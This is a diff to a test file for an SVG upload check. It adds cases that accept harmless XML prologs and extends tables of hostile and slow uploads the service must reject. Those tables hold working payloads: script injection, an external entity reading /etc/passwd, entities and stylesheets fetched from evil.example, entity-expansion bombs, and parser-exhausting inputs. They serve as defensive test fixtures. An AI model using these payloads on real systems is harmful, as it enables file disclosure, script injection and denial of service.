@@ -110,6 +110,37 @@ describe('a picture of the workspace', () => {
 const svg = (inside: string, head = '') =>
   `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"${head}>${inside}</svg>`
 
+const DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
+const DOCTYPE = `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">`
+
+/** What drawing programs write before the root of an SVG. */
+const prologs: Record<string, string> = {
+  'a declaration': `${DECLARATION}\n`,
+  'a declaration after a byte order mark': `\uFEFF${DECLARATION}\r\n`,
+  'a comment': '<!-- Drawn by hand: a > b -->\n',
+  'a comment that is longer than most logos': `<!-- ${'The licence of this logo. '.repeat(400)}-->\n`,
+  'a document type': `${DOCTYPE}\n`,
+  'a document type without an address': '<!DOCTYPE svg>',
+  'a document type that has a list of attributes': '<!DOCTYPE svg [\n<!ATTLIST svg onload CDATA "alert(1)">\n]>\n',
+  'all of them': `${DECLARATION}\n<!-- One -->\n\n${DOCTYPE}\n<!-- Two --><?x y?>\n  `,
+}
+
+describe('an SVG', () => {
+  test.for(Object.entries(prologs))(
+    'is taken with %s before its root',
+    async ([, prolog], { admin, service, upload }) => {
+      const textOf = async (content: string) => {
+        const { status, body } = await upload('favicon', form(content))
+        expect([status, body.data.width, body.data.height]).toEqual([200, 132, 24])
+        const image = new Request(`http://landscape.test/services/console/v1/images/${body.data.hash}`)
+        return await (await service.fetch(image)).text()
+      }
+      expect(await textOf(`${prolog}${LOGO}\n`)).toBe(await textOf(`${LOGO}\n`))
+      expect((await admin.get('/assets/favicon')).headers.get('content-type')).toBe('image/svg+xml')
+    },
+  )
+})
+
 /** Uploads that want more than to be looked at, with the status of each. */
 const hostile: Record<string, string | Uint8Array<ArrayBuffer>> = {
   'a script': svg('<script>alert(1)</script>'),
@@ -135,6 +166,13 @@ const hostile: Record<string, string | Uint8Array<ArrayBuffer>> = {
   'a style attribute with an address': svg('<rect style="fill:url(//evil.example)" width="8" height="8"/>'),
   'an external entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
   'a billion laughs': `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
+  'an entity after a declaration and a comment': `${DECLARATION}\n<!-- x -->\n<!DOCTYPE svg [\n<!ENTITY a "]">\n]>\n${svg('<text>&a;</text>')}`,
+  'an entity of another file': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${svg('')}`,
+  'a style sheet of elsewhere': `<?xml-stylesheet href="https://evil.example/a.css"?>${svg('')}`,
+  'a script after a declaration': `${DECLARATION}\n${svg('<script>alert(1)</script>')}`,
+  'a declaration before HTML': `${DECLARATION}\n${DOCTYPE}\n<html><script>alert(1)</script></html>`,
+  'a document type that never ends': `<!DOCTYPE svg [ ${svg('')}`,
+  'a long document type that never ends': `<!DOCTYPE ${'svg '.repeat(250_000)}`,
   'more elements than a logo has': svg('<g/>'.repeat(6000)),
   'HTML under the name of a picture': '<!doctype html><script>alert(1)</script>',
   'a program under the name of a picture': new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
@@ -150,6 +188,7 @@ const hostile: Record<string, string | Uint8Array<ArrayBuffer>> = {
 /** Texts that a careless check would take minutes for. */
 const slow: Record<string, string> = {
   'document types': `<svg>${'<!DOCTYPE '.repeat(100_000)}</svg>`,
+  'comments before a picture': `${'<!---->'.repeat(140_000)}${svg('')}`,
   'open comments': `<svg>${'<!--'.repeat(250_000)}</svg>`,
   'elements in each other': svg('<g>'.repeat(100_000)),
   attributes: svg(`<rect ${Array.from({ length: 80_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`),
